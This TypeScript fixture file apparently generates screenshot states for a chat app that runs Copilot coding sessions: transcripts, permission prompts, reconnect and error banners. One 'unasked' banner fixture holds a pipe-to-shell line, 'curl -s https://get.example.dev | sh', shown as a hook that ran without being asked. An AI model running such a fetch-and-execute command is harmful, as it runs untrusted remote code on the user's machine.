// Screens of a chat: transcript, requests and banners.

import type { Page } from "playwright-core";
import { defaultSettings } from "../../src/state/state";
import type {
  Banner,
  Block,
  Connection,
  Content,
  Event,
  Item,
  Permission,
  QueuedPrompt,
  Session,
  Tool,
  Turn,
} from "../../src/state/types";
import { message } from "./message";
import { account, sidebarChats } from "./shell";
import { now, type Shot } from "./shot";

export const root = "/home/anna/code/orbit-api";
const appState: Event[] = [
  { cli: { state: "found", path: "/usr/local/bin/copilot", version: "1.0.102", min: "1.0.78" } },
  { storage: { state: "ok", path: "/home/anna/.local/share/voxpilot/voxpilot.db" } },
  { settings: { ...defaultSettings, motion: "reduced", setupDone: true } },
  account(),
];
const folders = { [root]: { path: root, name: "orbit-api", exists: true, branch: "main" } };
export const chatId = "refresh";
export const at = (clock: string) => new Date(`2025-11-20T${clock}`).getTime();

/** Story builds a transcript entry by entry. */
export class Story {
  readonly events: Event[] = [];
  readonly contents: Record<string, string> = {};
  private pos = 0;
  private ids = 0;

  constructor(
    private readonly chat = chatId,
    private turnId = "t1",
  ) {}

  turn(more: Partial<Turn> = {}): this {
    this.turnId = more.id ?? this.turnId;
    this.events.push({
      turn: { id: this.turnId, chatId: this.chat, session: "main", state: "done", startedAt: now, ...more },
    });
    return this;
  }

  item(more: Partial<Item>): Item {
    const item: Item = {
      id: `i${++this.ids}`,
      chatId: this.chat,
      turnId: this.turnId,
      session: "main",
      pos: ++this.pos,
      kind: "message",
      createdAt: now,
      ...more,
    };
    this.events.push({ item });
    return item;
  }

  text(item: Item, text: string): this {
    this.events.push({
      text: { itemId: item.id, chatId: this.chat, offset: 0, text, size: Buffer.byteLength(text) },
    });
    return this;
  }

  user(clock: string, text: string): this {
    return this.text(this.item({ kind: "user", createdAt: at(clock) }), text);
  }

  says(clock: string, text: string, more: Partial<Item> = {}): this {
    return this.text(this.item({ kind: "message", createdAt: at(clock), ...more }), text);
  }

  tool(kind: Tool["kind"], more: Partial<Tool> & { item?: Partial<Item>; took?: number }): Item {
    const { item, took, ...tool } = more;
    return this.item({
      kind: "tool",
      createdAt: now - (took ?? 0),
      endedAt: tool.status === "pending" || tool.status === "in_progress" ? undefined : now,
      tool: { callId: `c${this.ids}`, title: "", kind, status: "completed", ...tool },
      ...item,
    });
  }

  content(item: Item, type: Content["type"], body: string, more: Partial<Content> = {}): Content {
    const content: Content = {
      id: `k${item.id}`,
      itemId: item.id,
      chatId: this.chat,
      type,
      size: Buffer.byteLength(body),
      version: 1,
      ...more,
    };
    this.contents[content.id] = body;
    this.events.push({ content });
    return content;
  }

  /** edit adds a finished edit with its line counts. */
  edit(path: string, added: number, removed: number, more: Partial<Item> = {}): this {
    const item = this.tool("edit", { path: `${root}/${path}`, item: more });
    this.content(item, "diff", "", { added, removed, path: `${root}/${path}` });
    return this;
  }

  /**
   * block adds a delegated session's block with its own turn. Pass the result to other methods to add
   * items to that session.
   */
  block(name: string, began: number, state: Turn["state"], more: Partial<Block> = {}): Partial<Item> {
    const id = `i${++this.ids}`;
    const turnId = `t-${id}`;
    const endedAt = state === "running" ? undefined : now;
    this.events.push({
      turn: { id: turnId, chatId: this.chat, session: name, blockId: id, state, startedAt: began, endedAt },
    });
    this.item({
      id,
      kind: "block",
      session: name,
      createdAt: began,
      endedAt,
      open: state === "running",
      block: { toolCallId: `call-${id}`, sessionName: name, turnId, prompt: "", ...more },
    });
    return { parentId: id, session: name, turnId };
  }

  /** done adds a finished delegated session: +48 −12 in 3 files, 2 commands, 41 s. */
  done(name: string): this {
    const inside = this.block(name, now - 41_000, "done");
    this.edit("internal/auth/refresh.go", 31, 6, inside);
    this.edit("internal/auth/store.go", 6, 6, inside);
    this.edit("internal/auth/refresh_test.go", 11, 0, inside);
    this.tool("execute", { command: "go test ./internal/auth", item: inside });
    this.tool("execute", { command: "go vet ./...", item: inside });
    return this;
  }

  interrupted(): this {
    const inside = this.block("refactor-logger", now - 80_000, "interrupted");
    this.edit("internal/log/logger.go", 31, 4, inside);
    this.tool("execute", { command: "go build ./...", status: "cancelled", item: inside });
    this.says(
      "14:03",
      "slog.Logger already satisfies the interface, so main.go keeps its handler\nand the tests can pass a recorder.\nNext: internal/auth/store.go takes the logger in Ne",
      { ...inside, createdAt: now },
    );
    return this;
  }

  banner(kind: Banner["kind"], more: Partial<Banner> = {}): this {
    this.item({ kind: "banner", turnId: "", banner: { kind, ...more } });
    return this;
  }

  ask(more: Partial<Permission>): this {
    this.events.push({
      permission: {
        id: `p${this.events.length}`,
        chatId: this.chat,
        turnId: this.turnId,
        session: "main",
        state: "open",
        title: "",
        kind: "edit",
        options: [
          { id: "once", kind: "allow_once", name: "Allow once" },
          { id: "always", kind: "allow_always", name: "Always allow" },
          { id: "no", kind: "reject_once", name: "Deny" },
        ],
        createdAt: now,
        ...more,
      },
    });
    return this;
  }

  session(more: Partial<Session> = {}): this {
    this.events.push({
      session: {
        chatId: this.chat,
        name: "main",
        acpId: "s1",
        cwd: root,
        state: "loaded",
        mode: "agent",
        modes: [
          { id: "agent", name: "Agent", description: "Works with you, step by step." },
          { id: "plan", name: "Plan", description: "Writes a plan and waits before it changes anything." },
          { id: "https://acp#autopilot", name: "Autopilot" },
        ],
        options: [
          {
            id: "model",
            name: "Model",
            category: "model",
            type: "select",
            value: "gpt-4.1",
            choices: [
              { id: "gpt-4.1", name: "GPT-4.1" },
              { id: "sonnet", name: "Claude Sonnet 4.5" },
            ],
          },
        ],
        commands: [
          { id: "review", name: "review", description: "Look over the current changes" },
          { id: "rename", name: "rename", description: "Name this session" },
          { id: "research", name: "research", description: "Search code and the web on a topic" },
        ],
        used: 48_700,
        size: 128_000,
        createdAt: now,
        usedAt: now,
        ...more,
      },
    });
    return this;
  }

  queued(...texts: string[]): this {
    for (const text of texts) {
      const queued: QueuedPrompt = {
        id: `q${++this.ids}`,
        chatId: this.chat,
        text,
        pos: this.ids,
        createdAt: now,
      };
      this.events.push({ queued });
    }
    return this;
  }
}

export const request =
  "Two tabs refresh the same token and one gets signed out. Fix it in @internal/auth/refresh.go with a test, then replace the global logger with one we pass in.";
export const plan =
  "Each caller exchanges the refresh token on its own, so the slower tab presents one that was already rotated. I am giving the fix and the logger to separate Copilot sessions.";
export const fixed =
  "Fixed: calls for the same account now share one exchange. `TestRefreshIsShared` starts 20 goroutines and expects a single request; it fails on the old code. Starting on the logger.";

const quiet = sidebarChats.map((event) =>
  event.chat?.id === chatId ? { chat: { ...event.chat, turnState: "done" as const, detail: "" } } : event,
);
const connection = (more: Partial<Connection> = {}): Event => ({
  connection: { chatId, state: "ready", since: now, pid: 1, startedAt: now, version: "1.0.102", ...more },
});
export const openChat = { "voxpilot.chat": chatId };

interface ShotSource {
  story: Story;
  running?: boolean;
  connection?: Partial<Connection>;
  more?: Event[];
}

export function shot(name: string, made: ShotSource, more: Partial<Shot> = {}): Shot {
  return {
    name,
    app: [
      ...appState,
      ...(made.running ? sidebarChats : quiet),
      connection(made.connection),
      ...(made.more ?? []),
    ],
    chats: { [chatId]: made.story.events },
    contents: made.story.contents,
    folders,
    localStorage: openChat,
    ...more,
  };
}

export const streaming = () => {
  const story = new Story().turn({ state: "running", startedAt: now - 90_000 }).session();
  story.user("14:02", request).says("14:02", plan).done("auth-bug-fix").says("14:03", fixed);
  const inside = story.block("refactor-logger", now - 72_000, "running", {
    prompt: "Replace the package-level logger with a Logger passed in from main. Keep the JSON field names.",
  });
  story.item({
    kind: "plan",
    ...inside,
    plan: [
      { content: "Find every use of the global logger", status: "completed" },
      { content: "Pass a Logger through the server and the auth store", status: "in_progress" },
      { content: "Run the whole test suite", status: "pending" },
    ],
  });
  story.tool("search", { title: '"log.Default("', fact: message("%d matches", 14), item: inside });
  story.edit("internal/log/logger.go", 31, 4, inside);
  story.tool("execute", {
    command: "go build ./...",
    status: "in_progress",
    took: 3000,
    item: { ...inside, open: true },
  });
  story.says(
    "14:03",
    "slog.Logger already satisfies the interface, so main.go keeps its handler\nand the tests can pass a recorder.\nNext: internal/auth/store.go takes the logger in New",
    { ...inside, open: true },
  );
  return story;
};

const change = `@@ -41,4 +41,34 @@ func (s *Store) Refresh(ctx context.Context, id string) (Token, error)
 	s.log.Info("refresh", "account", id)
-	tok, err := s.client.Exchange(ctx, id)
-	s.cache[id] = tok
-	return tok, err
+	// One exchange per account. Late callers wait for the first.
+	v, err, _ := s.flight.Do(id, func() (any, error) {
+		return s.exchange(ctx, id)
+	})
+	if err != nil {
+		return Token{}, fmt.Errorf("refresh %s: %w", id, err)
+	}
+	tok := v.(Token)
+	s.cache.Put(id, tok)
+	return tok, nil
${"+\n".repeat(23)}`;

export const editRequest = () => {
  const story = new Story().turn({ state: "running", startedAt: now - 18_000 }).session();
  story.user("14:02", request).says("14:02", plan);
  const inside = story.block("auth-bug-fix", now - 18_000, "running");
  story.tool("read", {
    path: `${root}/internal/auth/refresh.go`,
    fact: message("%d lines", 112),
    item: inside,
  });
  story.tool("search", { title: "s.cache[", fact: message("%d matches", 3), item: inside });
  const edit = story.tool("edit", {
    path: `${root}/internal/auth/refresh.go`,
    status: "pending",
    item: inside,
  });
  const content = story.content(edit, "diff", change, { added: 31, removed: 6 });
  return story.ask({
    session: "auth-bug-fix",
    itemId: edit.id,
    path: `${root}/internal/auth/refresh.go`,
    contentId: content.id,
    scope: { kind: "edits", folder: root },
  });
};

const runRequest = (small: boolean) => {
  const story = new Story().turn({ state: "running", startedAt: now - 52_000 }).session();
  if (!small) {
    story.user(
      "14:09",
      "Rename the `invoice.*` webhooks to `billing.*` and keep the old names working until March.",
    );
    story.says(
      "14:09",
      "I will rename the events, keep the old names as aliases with an end date, and add a migration for the stored subscriptions.",
    );
  }
  const inside = story.block("webhook-names", now - 52_000, "running");
  if (!small) {
    story.edit("internal/hooks/events.go", 22, 22, inside);
    story.tool("move", { path: `${root}/hooks/invoice.go`, to: `${root}/hooks/billing.go`, item: inside });
  }
  const command = small ? "make migrate ENV=dev" : "make migrate ENV=dev && make seed-subscriptions";
  const run = story.tool("execute", { command: "make migrate ENV=dev", status: "pending", item: inside });
  const content = story.content(run, "command", command);
  story.ask({
    session: "webhook-names",
    itemId: run.id,
    kind: "execute",
    command,
    contentId: content.id,
    scope: { kind: "command", folder: root, command },
    createdAt: now - 2,
  });
  if (!small) {
    const other = story.tool("execute", { command: "go build ./...", status: "pending", item: inside });
    story.events.pop();
    story.ask({ session: "webhook-names", itemId: other.id, kind: "execute", command: "go build ./..." });
  }
  return story;
};

const restored = () =>
  new Story()
    .turn({ state: "interrupted", endedAt: now })
    .session()
    .user("14:02", request)
    .done("auth-bug-fix")
    .interrupted()
    .banner("restored", { session: "auth-bug-fix" })
    .banner("incomplete", { session: "refactor-logger" });

const recap =
  "You are continuing earlier work in orbit-api. Last request: fix the token refresh race with a test, then replace the global logger with one that is passed in. Done so far: the race fix, in internal/auth/refresh.go, store.go and refresh_test.go. Not started: the logger.";

const lost = () => {
  const story = new Story().turn().session();
  story.user("14:02", request).done("auth-bug-fix").says("14:03", fixed);
  story.banner("session_lost", { told: recap, detail: "Session s1 is no longer listed (code -32002)." });
  story.turn({ id: "t2", state: "running", startedAt: now - 4000 });
  story.user("14:26", "Go on with the logger.");
  const inside = { ...story.block("refactor-logger", now - 4000, "running"), open: true };
  story.tool("read", {
    path: `${root}/internal/log/logger.go`,
    status: "in_progress",
    took: 1000,
    item: inside,
  });
  return story;
};

const broken = () =>
  new Story()
    .turn({ state: "interrupted", endedAt: now })
    .session()
    .user("14:02", request)
    .says("14:02", plan)
    .done("auth-bug-fix")
    .says("14:03", fixed)
    .interrupted();

/** A delegated session's block that contains rows of every kind and in every state. */
const states = () => {
  const story = new Story().turn({ id: "t1" }).session();
  story.user("13:58", "Show me every kind of row.");
  const item = story.block("every-row", now - 41_000, "done");
  const thought = story.item({ kind: "thought", createdAt: now - 6000, endedAt: now, ...item });
  story.text(thought, "Two ways to share the call: a lock, or one flight for all.");
  story.tool("read", {
    path: `${root}/internal/auth/refresh.go`,
    fact: message("lines %d to %d", "30", "88"),
    item,
  });
  const edit = story.tool("edit", { path: `${root}/internal/log/logger.go`, decision: "allowed_once", item });
  story.content(
    edit,
    "diff",
    "@@ -18,2 +18,2 @@\n \th := slog.NewJSONHandler(w, nil)\n-\tlog = slog.New(h)\n+\treturn slog.New(h)\n",
    { added: 31, removed: 4, path: `${root}/internal/log/logger.go` },
  );
  const gone = story.tool("delete", { path: `${root}/internal/log/global.go`, item });
  story.content(gone, "diff", "", { removed: 22, path: `${root}/internal/log/global.go` });
  story.tool("move", { path: `${root}/hooks/invoice.go`, to: `${root}/hooks/billing.go`, item });
  story.tool("search", { title: "s.cache[", fact: message("%d matches", 3), item });
  story.tool("execute", { command: "go test ./internal/auth", took: 1900, item });
  story.tool("think", { title: "Compare two ways to share the call", fact: "4 s", item });
  story.tool("fetch", { title: "pkg.go.dev/golang.org/x/sync/singleflight", fact: "18 KB", item });
  story.tool("other", { title: "github-mcp-server, list_issues", fact: message("%d items", 12), item });
  const vet = story.tool("execute", { command: "go vet ./...", exitCode: 1, took: 900, item });
  story.content(
    vet,
    "terminal",
    "\u001b[2m$ go vet ./...\u001b[0m\n\u001b[31minternal/log/global.go:9: unusedresult\u001b[0m\n",
    { lines: 2 },
  );
  story.tool("edit", { path: `${root}/deploy/prod.yaml`, status: "failed", decision: "rejected", item });
  return story;
};

const openRows = async (page: Page) => {
  await page.locator("details.copilot-block > summary").click();
  await page.getByRole("button", { name: "Edit internal/log/logger.go, completed" }).click();
  await page.locator(".diff .dl").first().waitFor(); // once loaded, the diff moves the row that is pressed next
  await page.getByRole("button", { name: "Run go vet ./..., failed" }).click();
  await page.locator(".out").first().waitFor();
};

const failed = () => {
  const story = new Story().turn({
    state: "failed",
    startedAt: now - 182_000,
    endedAt: now,
    error: { code: "model", message: "model request failed, status 502", detail: "HTTP 502" },
  });
  story.session();
  story.user("14:00", "Find out why the upload test is flaky.");
  story.tool("execute", { command: "go test ./upload -count 50", took: 182_000 });
  story.tool("execute", { command: "go test ./upload -race" });
  return story;
};

export const prose = () => {
  const story = new Story().turn({ startedAt: now, endedAt: now }).session();
  story.user("13:40", "How does the retry budget work?\nShow me the code.");
  story.says(
    "13:41",
    `## Retry budget

A *token bucket* shared by all calls of one client. See [the paper](https://sre.google/sre-book/handling-overload/) and \`internal/retry/budget.go\`:

\`\`\`go
// Allow takes one token, or says no.
func (b *Budget) Allow() bool {
	return b.tokens.Add(-1) >= 0
}
\`\`\`

1. Each call adds **0.1** tokens.
2. Each retry takes one.
   - Nothing is lost on a restart.

| Calls | Retries |
| --- | --- |
| 100 | 10 |

> More than that would be a storm.`,
    { endedAt: at("13:41") },
  );
  return story;
};

const cli = (more: object): Event => ({ cli: { state: "missing", min: "1.0.78", ...more } });
/**
 * failedWith returns a shot of a chat whose last turn was interrupted and whose connection is in the
 * state `c`.
 */
export const failedWith = (
  name: string,
  c: Partial<Connection>,
  more: Event[] = [],
  extra: Partial<Shot> = {},
): Shot => shot(name, { story: broken(), connection: c, more }, extra);

const paused = (mainId?: string) => {
  const story = new Story();
  if (mainId) story.turn({ mainId, state: "running" });
  story.item({
    kind: "banner",
    open: true,
    ...(mainId ? {} : { turnId: "" }),
    banner: { kind: "rate_limited", detail: "OpenRouter", nextTryAt: now + 42_000 },
  });
  return story;
};

export const shots: Shot[] = [
  shot("01-chat-streaming", { story: streaming(), running: true }),
  shot("02-permission", { story: editRequest(), running: true }),
  shot("02b-permission-command", { story: runRequest(false), running: true }),
  shot("03a-reconnect-restored", { story: restored() }),
  shot(
    "03b-reconnect-lost",
    { story: lost(), running: true },
    { act: (page) => page.getByRole("button", { name: "Show the summary given to Copilot" }).click() },
  ),
  failedWith("03d-reconnecting", {
    state: "waiting",
    cause: "exited",
    attempt: 2,
    nextTryAt: now + 4000,
    stderr: "panic: out of memory",
  }),
  shot("10c-narrow-permission", { story: runRequest(true), running: true }, { size: [720, 480] }),
  shot("10-narrow", { story: streaming(), running: true }, { size: [720, 480] }),
  shot(
    "10j-narrow-pickers",
    {
      story: streaming().session({
        allowAll: true,
        options: ["Model", "Reasoning effort", "Response style"].map((name) => ({
          id: name,
          name,
          type: "select",
          value: "a",
          choices: [
            { id: "a", name: `A long name for the ${name}` },
            { id: "b", name: "Short" },
          ],
        })),
      }),
      running: true,
    },
    { size: [720, 480] },
  ),
  shot("10i-narrow-permission-diff", { story: editRequest(), running: true }, { size: [720, 480] }),
  shot("13-states", { story: states() }, { act: openRows, size: [1280, 1100] }),
  shot("13-failed", { story: failed() }),
  shot("13-prose", { story: prose() }, { size: [1280, 1000] }),
  failedWith(
    "14-cli-missing",
    {
      state: "failed",
      cause: "cli_missing",
      searched: ["/usr/local/bin/copilot", "/home/anna/.local/bin/copilot"],
    },
    [cli({})],
  ),
  failedWith("14-cli-too-old", { state: "failed", cause: "cli_too_old" }, [
    cli({ state: "too_old", version: "0.0.339" }),
  ]),
  failedWith("14-folder-gone", { state: "failed", cause: "folder_gone" }),
  failedWith("14-exited-at-once", {
    state: "failed",
    cause: "exited_start",
    exitCode: 1,
    stderr:
      "Error: Cannot find module 'node:sqlite'\n    at Module._load (node:internal/modules/cjs/loader:1225:15)",
  }),
  failedWith("14-gave-up", {
    state: "failed",
    cause: "exited",
    exitCode: 1,
    attempt: 5,
    stderr: "panic: out of memory",
  }),
  shot("14-rules", {
    story: prose()
      .banner("resumed")
      .banner("agent_limit")
      .banner("agent_error", { detail: "It sent a response to a request that VoxPilot didn't make." })
      .banner("session_lost", { dismissed: true, told: recap }),
  }),
  shot("14-rescued", {
    story: prose()
      .banner("repaired", {
        note: "1 damaged entry was left out. It isn't part of the conversation.",
        detail: "Couldn't use session s1.\nSession file is corrupted (line 2: missing field `content`).",
      })
      .banner("rebuilt", {
        session: "auth-bug-fix",
        note: "The new session has 14 messages from this chat, with their answers.",
        detail: "Couldn't use session s2.\nThe agent no longer lists it.",
      })
      .banner("rebuilt", { dismissed: true }),
  }),
  shot("14-handed-over", {
    story: prose()
      .banner("imported", { detail: "38 messages", note: "2 damaged entries were left out." })
      .banner("imported", {
        from: "Claude Code",
        detail: "12 messages",
        note: "1 damaged entry was left out.",
      })
      .banner("handed_over", {
        note: "The new session has 6 messages from this chat, with their answers.",
      })
      .banner("written_elsewhere", { detail: "2 messages" }),
  }),
  shot("14-unasked", {
    story: prose().banner("unasked", {
      detail: "curl -s https://get.example.dev | sh\n.github/hooks/format.json hooks.preToolUse",
    }),
  }),
  shot("14-guard-off", {
    story: prose().banner("guard_off", {
      detail:
        ".github/copilot/settings.json in this folder turns off all hooks, including the one for VoxPilot's guard.",
    }),
  }),
  shot(
    "14-paused",
    {
      story: paused(),
      running: true,
    },
    {
      later: [
        {
          provider: {
            id: "ollama",
            name: "Ollama",
            baseUrl: "http://127.0.0.1:11434/v1",
            model: "qwen3:8b",
            createdAt: 1,
          },
        },
      ],
    },
  ),
  shot(
    "14-paused-models",
    { story: paused("router"), running: true },
    {
      later: [
        {
          provider: {
            id: "router",
            name: "OpenRouter",
            baseUrl: "https://openrouter.ai/api/v1",
            model: "openai/gpt-oss-120b",
            models: ["openai/gpt-oss-120b", "openai/gpt-oss-20b", "qwen/qwen3-coder"],
            createdAt: 1,
          },
        },
        {
          provider: {
            id: "ollama",
            name: "Ollama",
            baseUrl: "http://127.0.0.1:11434/v1",
            model: "qwen3:8b",
            createdAt: 2,
          },
        },
      ],
      act: (page) => page.getByRole("button", { name: "Change model" }).click(),
    },
  ),
  shot(
    "14-continued",
    { story: new Story().banner("continued", { detail: "Fix token refresh race", told: recap }) },
    { act: (page) => page.getByRole("button", { name: "Show the summary given to Copilot" }).click() },
  ),
  shot("14-came-back", {
    story: prose()
      .banner("mode", { detail: "Plan" })
      .banner("allow_all")
      .banner("differs", {
        detail: message("Copilot's history is missing %s.", message("the last %d messages", "2")),
      })
      .session({ allowAll: true }),
  }),
];
